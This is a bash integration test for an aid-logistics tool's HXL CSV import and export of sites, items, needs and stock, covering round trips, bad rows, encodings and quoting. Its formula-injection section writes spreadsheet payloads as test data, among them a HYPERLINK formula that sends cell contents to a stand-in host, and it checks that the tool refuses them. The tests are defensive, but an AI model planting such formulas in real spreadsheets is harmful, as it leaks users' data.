#!/usr/bin/env bash
# import_hxl.sh: `aidmesh import --hxl` through the real binary: sites, items, needs and
# stock from HXL-tagged CSV (columns found by hashtag, aliases, a header row for people, a
# BOM); --dry-run writes nothing; a bad row in the middle writes nothing and is named by
# its spreadsheet row, every bad row is named; a file in Latin-1 or UTF-16, a file without
# a hashtag row or without a column it needs; quotes and line ends inside cells; cells that
# a spreadsheet would run as formulas, refused on import and neutralised on export; and
# export then import into an empty node giving the same sites and items (the read model's
# listings, whose digests are compared: the store's view fingerprint also covers who wrote
# each value, which differs between two nodes by design).
. "$(dirname "$0")/lib.sh"

A=$AIDMESH
H=$T/hub
E=$T/empty
am() { "$A" --home "$H" "$@"; }
em() { "$A" --home "$E" "$@"; }
# digest HOME: a digest of what `site list --json` and `item list --json` show
digest() { { "$A" --home "$1" site list --json; "$A" --home "$1" item list --json; } | sha256sum | cut -d' ' -f1; }
# jq_py EXPR: evaluates EXPR on the JSON in stdin (as `d`)
jq_py() { python3 -c "import json,sys; d=json.load(sys.stdin); print($1)"; }
# unchanged HOME N: the node holds exactly N entries
unchanged() { [ "$(entries "$1")" = "$2" ]; }

check "init hub" am init --name hub-north
check "init an empty node (its own network)" em init --name other

# ---- export, with awkward names ------------------------------------------------------------
am site add hub-north --name 'Hub "North", main' --kind hub --lat 12.5 --lon -4.25 >/dev/null
am site add clinic-2 --name "Clinic 2" --kind clinic >/dev/null
am site add east --name "-East depot" >/dev/null
am site add calc --name "=1+2" --kind warehouse >/dev/null
am item add ors --name "ORS sachet, 20.5 g" --unit sachet --category health >/dev/null
am item add water-kit --name "@Water kit" --unit kit >/dev/null
am item add tabs --name "Tablets" --unit tablet >/dev/null

check "export --hxl sites" sh -c "'$A' --home '$H' export --hxl sites >'$T/sites.csv'"
check "export --hxl items" sh -c "'$A' --home '$H' export --hxl items >'$T/items.csv'"
check "the sites export has its hashtag row" grep -q '^#loc+code,#loc+name,#loc+type' "$T/sites.csv"
check "export neutralises a name that begins with = (a leading ')" grep -qF "\"'=1+2\"" "$T/sites.csv"
check "export neutralises a name that begins with -" grep -qF "\"'-East depot\"" "$T/sites.csv"
check "export neutralises a name that begins with @" grep -qF "\"'@Water kit\"" "$T/items.csv"
check "export quotes a cell with quotes and commas" grep -qF '"Hub ""North"", main"' "$T/sites.csv"

# ---- export -> import into an empty node: the same sites and items ------------------------
check "import --hxl sites --dry-run" em import --hxl sites "$T/sites.csv" --dry-run
check "a dry run writes nothing" unchanged "$E" 0
expect_out "import --hxl sites adds every site" "imported 4 rows of sites from .*: 4 added, 0 updated" \
    em import --hxl sites "$T/sites.csv"
expect_out "import --hxl items adds every item" "imported 3 rows of items from .*: 3 added" \
    em import --hxl items "$T/items.csv"
if [ "$(digest "$H")" = "$(digest "$E")" ]; then
    ok "export then import gives the same sites and items (site list, item list)"
else
    not_ok "the imported sites and items differ"
    diff <({ am site list --json; am item list --json; }) <({ em site list --json; em item list --json; }) | sed 's/^/    /'
fi
check "the quotes and the comma of a name survive" \
    sh -c "'$A' --home '$E' site list --json | grep -qF 'Hub \\\"North\\\", main'"
n=$(entries "$E")
expect_out "importing the same file again writes nothing" "0 added, 0 updated, 4 unchanged" \
    em import --hxl sites "$T/sites.csv"
check "... and nothing was written" unchanged "$E" "$n"

# ---- sites from a sheet of people: aliases, a title row, a BOM, columns in any order -------
printf '\xef\xbb\xbfDistrict list,,\r\nName,Code,Type\r\n#adm1+name,#adm1+code,#loc+type\r\nNorth Camp,camp-n,shelter\r\n\r\nSouth Camp,camp-s,Shelter\r\n' >"$T/adm.csv"
expect_out "#adm1+name and #adm1+code stand for a site's name and code, after a BOM and two header rows" \
    "imported 2 rows of sites .*: 2 added" em import --hxl sites "$T/adm.csv"
check "the site came with its name and kind" \
    sh -c "'$A' --home '$E' site list --json | grep -q '\"slug\":\"camp-s\",\"name\":\"South Camp\",\"kind\":\"shelter\"'"
printf '#loc+code,#loc+name\ncamp-n,North Camp (new)\n' >"$T/rename.csv"
expect_out "a site already here is updated where the row differs" "0 added, 1 updated" \
    em import --hxl sites "$T/rename.csv"

# ---- needs, with quotes and a line end inside a cell ----------------------------------------
cat >"$T/needs.csv" <<'EOF'
Site,Item,How many,Priority,By,Note
#loc+code,#item+code,#quantity,#severity,#date+needed,#description
hub-north,ors,500,High,2031-05-01,"first line, with a comma
second line with ""quotes"""
clinic-2,tabs,20,,,
EOF
expect_out "import --hxl needs opens a need per row (#quantity, #severity, #description)" \
    "imported 2 rows of needs .*: 2 added" em import --hxl needs "$T/needs.csv"
check "the note keeps its line end and its quotes" \
    sh -c "'$A' --home '$E' need list --json | grep -qF 'first line, with a comma\\nsecond line with \\\"quotes\\\"'"
check "the priority was read without regard to case" \
    sh -c "'$A' --home '$E' need list --json | grep -q '\"priority\":\"high\"'"
am need add --site hub-north --item ors --qty 7 >/dev/null
am need add --site clinic-2 --item tabs --qty 3 >/dev/null
am export --hxl needs >"$T/needs-export.csv"
n=$(entries "$H")
expect_out "re-importing a needs export skips the needs already here (by #meta+id)" \
    "0 added, 0 updated, 0 unchanged, 2 skipped" am import --hxl needs "$T/needs-export.csv"
check "... and writes nothing" unchanged "$H" "$n"

# ---- stock: a count per row ------------------------------------------------------------------
cat >"$T/stock.csv" <<'EOF'
#loc+code,#item+code,#item+lot,#date+expiry,#value+quantity
hub-north,ors,L1,2030-01-01,120
hub-north,ors,L2,2031-01-01,80
clinic-2,tabs,,,0
EOF
expect_out "import --hxl stock records a count per row (#value+quantity)" \
    "imported 3 rows of stock .*: 3 added" em import --hxl stock "$T/stock.csv"
check "the counts are the stock" \
    sh -c "'$A' --home '$E' stock show --site hub-north --json | python3 -c 'import json,sys; d=json.load(sys.stdin); d=d if isinstance(d,list) else d[\"cells\"]; assert sorted(c[\"stock\"] for c in d)==[80,120], d'"

# ---- a bad row in the middle: nothing written, the row named ---------------------------------
cat >"$T/bad.csv" <<'EOF'
Site,Item,Qty
#loc+code,#item+code,#item+num+needed
hub-north,ors,10
hub-north,ors,ten
clinic-2,tabs,5
clinic-2,nosuch,5
EOF
n=$(entries "$E")
refute "a file with a bad row is refused" em import --hxl needs "$T/bad.csv"
expect_out "the bad quantity is named by its spreadsheet row and hashtag" \
    "import: row 4, #item\\+num\\+needed: --qty takes a whole number" em import --hxl needs "$T/bad.csv"
expect_out "every bad row is named (an unknown item on row 6)" "import: row 6, #item\\+code: unknown item 'nosuch'" \
    em import --hxl needs "$T/bad.csv"
expect_out "and the summary says nothing was written" "2 of 4 rows are bad .*nothing was written" \
    em import --hxl needs "$T/bad.csv"
check "nothing was written" unchanged "$E" "$n"
check "--json names the bad rows" \
    sh -c "'$A' --home '$E' import --hxl needs '$T/bad.csv' --json 2>/dev/null | grep -q '\"bad_rows\":\\[4,6\\]'"
refute "--dry-run of the bad file fails too" em import --hxl needs "$T/bad.csv" --dry-run
printf '#loc+code,#loc+name\ncamp-x,Camp X\ncamp-x,Camp Y\n' >"$T/dup.csv"
expect_out "a site on two rows with different values is refused" "row 3: site 'camp-x' is also on row 2" \
    em import --hxl sites "$T/dup.csv"

# ---- formulas on import ----------------------------------------------------------------------
printf '#loc+code,#loc+name\nok-1,Fine\nevil,"=HYPERLINK(""http://x/?""&A1)"\nat,@SUM(A1)\ntab,"\tcmd"\n' >"$T/formula.csv"
expect_out "a cell that begins with = is refused with its row" "row 3, #loc\\+name: '=HYPERLINK.*would run as a formula" \
    em import --hxl sites "$T/formula.csv"
expect_out "so is one that begins with @" "row 4, #loc\\+name: '@SUM\\(A1\\)' would run as a formula" \
    em import --hxl sites "$T/formula.csv"
expect_out "so is one that begins with a TAB" "row 5, #loc\\+name: .* would run as a formula" \
    em import --hxl sites "$T/formula.csv"
check "nothing of that file was written" sh -c "! '$A' --home '$E' site list | grep -q ok-1"
printf '#loc+code,#loc+name,#geo+lat,#geo+lon\nneg,"'"'"'-Dash camp",-1.5,+2.25\n' >"$T/neg.csv"
expect_out "negative numbers are numbers, and a leading ' keeps a cell as text" "1 added" \
    em import --hxl sites "$T/neg.csv"
check "... whose name has no quote" sh -c "'$A' --home '$E' site list --json | grep -q '\"name\":\"-Dash camp\"'"

# ---- files that are not what they should be ---------------------------------------------------
printf '#loc+code,#loc+name\nmunich,M\xfcnchen\n' >"$T/latin1.csv"
expect_out "a Latin-1 file is refused: save it as CSV UTF-8" "not UTF-8 .*line 2.*save it as CSV UTF-8" \
    em import --hxl sites "$T/latin1.csv"
python3 -c "open('$T/utf16.csv','wb').write('#loc+code,#loc+name\nx,X\n'.encode('utf-16'))"
expect_out "a UTF-16 file is refused: save it as CSV UTF-8" "not UTF-8 \\(it looks like UTF-16.*save it as CSV UTF-8" \
    em import --hxl sites "$T/utf16.csv"
printf 'Code,Name\nx,X\n' >"$T/notags.csv"
expect_out "a file without a hashtag row is refused" "no row of HXL hashtags" em import --hxl sites "$T/notags.csv"
printf '#loc+name,#item+code\nX,ors\n' >"$T/nocode.csv"
expect_out "a missing column is named by its hashtag" "no #loc\\+code column, for the site's code" \
    em import --hxl needs "$T/nocode.csv"
printf '#loc+code,#loc+name\nx,"unclosed\n' >"$T/quote.csv"
expect_out "an unclosed quote is refused" "no closing quote" em import --hxl sites "$T/quote.csv"
head -c $((16 * 1024 * 1024 + 1)) /dev/zero | tr '\0' 'a' >"$T/big.csv"
expect_out "a file over 16 MiB is refused" "over the limit of 16777216" em import --hxl sites "$T/big.csv"
refute "an unknown kind is refused" em import --hxl people "$T/sites.csv"
refute "a missing file is refused" em import --hxl sites "$T/nope.csv"
expect_out "import --help names every option" "--dry-run" em import --help

finish
